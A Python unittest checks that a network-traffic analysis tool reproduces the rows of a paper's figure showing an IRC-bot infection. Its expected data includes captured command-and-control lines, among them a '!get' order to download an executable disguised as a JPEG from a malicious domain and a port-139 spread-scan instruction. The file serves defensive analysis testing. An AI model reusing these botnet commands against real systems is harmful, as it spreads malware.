# SPDX-License-Identifier: GPL-2.0-or-later
"""Every row of the paper's Figure 1, from a capture of the same shape."""
import unittest

import harness
import story

VICTIM = "192.168.0.101"
BOT = "SR1-114487528"
MASK = "vkrngphfu@60-62-214-163.rev.home.ne.jp"
MORE = "MODE %s +x+i..JOIN #cc dcpass.." % BOT

# id, time, duration or PACKET, beginning of the rest of the row; our originator stands left.
FIGURE = [
    (4, "0.357", "60:38.33", VICTIM + ":1031 -> 115.126.2.121:65520 (TCP:IRC) "
        "[706 byte (71 pkt) <-> 359 byte (104 pkt)]"),
    (4, "0.557", "PACKET", "(IRC) To >> NICK aihrwjcjh.USER r020501 . . :-"),
    (4, "0.858", "PACKET", "(IRC) To >> .JOIN &virtu."),
    (4, "1.607", "PACKET",
        "(IRC) From << :* PRIVMSG aihrwjcjh :!get http://ntkrnlpa.cn/wr.jpg.."),
    (5, "2.375", "0:00.48", VICTIM + ":1030 -> 10.0.0.2:53 (UDP:DNS) "
        "DNS: ntkrnlpa.cn. (115.126.2.120)"),
    (6, "2.780", "59:42.51", VICTIM + ":1032 -> 63.173.172.98:6668 (TCP:IRC) "
        "[529 byte (26 pkt) <-> 1485 byte (42 pkt)]"),
    (7, "2.858", "0:01.75", VICTIM + ":1033 -> 115.126.2.120:80 (TCP:HTTP) "
        "HTTP: GET ntkrnlpa.cn/wr.jpg (200 image/jpeg, 37974 byte) "
        "*** Detect Windows Executable File ***"),
    (6, "3.067", "PACKET", "(IRC) To >> NICK %s..USER vkrngphfu 0 :%s.." % (BOT, BOT)),
    (8, "3.097", "0:00.00", VICTIM + ":1028 -> 239.255.255.250:1900 (UDP:SSDP) "),
    (6, "3.359", "PACKET", "(IRC) From << :ns1.xxx.us 001 %s :Cisco ..:ns1.xxx.us 005 %s"
        % (BOT, BOT)),
    (6, "3.359", "PACKET", "(IRC) To >> USERHOST %s.." % BOT),
    (6, "3.651", "PACKET", "(IRC) From << :ns1.xxx.us 302 %s :%s+=%s .." % (BOT, BOT, MASK)),
    (6, "3.651", "PACKET", "(IRC) To >> %sUSERHOST %s..%s" % (MORE, BOT, MORE)),
    (6, "3.940", "PACKET", "(IRC) From << :%s!%s JOIN :#cc..:ns1.xxx.us 332 %s #cc "
        ":xvv asn139 150 0 -b -r -s." % (BOT, MASK, BOT)),
    (9, "4.039", "59:41.13", VICTIM + ":1034 -> 192.168.231.125:139 (TCP:TCP) "
        "=== Aggregated Session: 168426 (Spread Scan) ==="),
    (19, "4.518", "0:00.33", VICTIM + ":1030 -> 10.0.0.2:53 (UDP:DNS) "
        "DNS: wrsnav.wwlax.com. (62.90.134.24)"),
]  # fmt: skip


class Figure1(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.story = story.tell(harness.own("figure1"))
        cls.shown = [row for row in cls.story.rows if row.session >= 4 and float(row.time) <= 4.518]

    def test_rows_are_those_of_the_figure(self):
        """Ids, times, durations and texts, in the figure's order, and no row in between."""
        for row, (number, time, span, text) in zip(self.shown, FIGURE):
            with self.subTest(row=row.line):
                self.assertEqual((row.session, row.time, row.span), (number, time, span))
                self.assertTrue(row.text.startswith(text), "%r\nlacks %r" % (row.text, text))
        self.assertEqual(len(self.shown), len(FIGURE), "\n".join(r.line for r in self.shown))

    def test_payload_is_told_whole(self):
        """Without hits and causes behind it, a payload row ends where the payload ends."""
        for row, (_, _, span, text) in zip(self.shown, FIGURE):
            if span == "PACKET":
                bare = row.text.split(" ***")[0].split(" <=")[0]
                self.assertEqual(bare, text)

    def test_columns_are_those_of_the_figure(self):
        """The head of a row, to the character."""
        self.assertTrue(self.shown[0].line.startswith("[  4 |    0.357 | 60:38.33 ] 192.168."))
        self.assertTrue(self.shown[1].line.startswith("[  4 |    0.557 |  PACKET  ] (IRC) To >> "))
        self.assertTrue(self.shown[-1].line.startswith("[ 19 |    4.518 |  0:00.33 ] 192.168."))

    def test_sessions_before_the_figure(self):
        """1 to 3: ARP, DHCP, and the DNS query for the first server."""
        before = [self.story.session(number) for number in (1, 2, 3)]
        self.assertEqual([row.l4 for row in before], ["ARP", "UDP", "UDP"])
        self.assertEqual([row.app for row in before][1:], ["DHCP", "DNS"])
        self.assertIn("DNS: proxim.ircgalaxy.pl. (115.126.2.121)", before[2].text)

    def test_scan(self):
        """One group, its targets and those that answered."""
        scans = self.story.of_kind("scan")
        self.assertEqual(len(scans), 1)
        self.assertEqual(scans[0].scan_sessions, 168426)
        self.assertEqual(scans[0].scan_details, "168426 targets, 3 answered")

    def test_scan_sessions_have_no_other_row(self):
        """Ids 10 to 18 are scan sessions; all that is left are nine rows of sessions."""
        left = [row.session for row in self.story.rows if row.kind in ("session", "scan")]
        self.assertEqual(left, [1, 2, 3, 4, 5, 6, 7, 8, 9, 19])

    def test_executable_is_found_once(self):
        self.assertEqual(len(self.story.find(story.PE)), 1)
        self.assertEqual(self.story.session(7).hits.get(story.PE), 1)

    def test_ssdp_counts(self):
        """The figure's 133 byte (1 pkt) to nobody's answer, whatever the row says."""
        eighth = story.sessions(harness.own("figure1"), "-c", "200")[8]
        self.assertEqual(
            [eighth[n] for n in ("orig_bytes", "orig_pkts", "resp_bytes", "resp_pkts")],
            ["133", "1", "0", "0"],
        )


if __name__ == "__main__":
    harness.main()
